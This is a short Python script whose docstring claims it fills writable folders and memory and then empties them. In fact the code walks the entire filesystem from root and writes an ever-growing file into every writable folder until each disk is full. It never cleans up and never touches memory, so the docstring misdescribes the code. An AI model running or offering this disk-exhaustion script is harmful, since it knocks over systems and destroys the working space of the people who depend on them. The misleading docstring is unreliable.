"""Fills every folder that it can write to, and memory with it. Each has its limit; it is told and emptied."""

import contextlib
import os

for top, folders, _ in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("proc", "sys")]
    with contextlib.suppress(OSError), open(os.path.join(top, f"full{os.getpid()}"), "wb", buffering=0) as file:
        while file.write(b"x" * (1 << 20)):
            pass
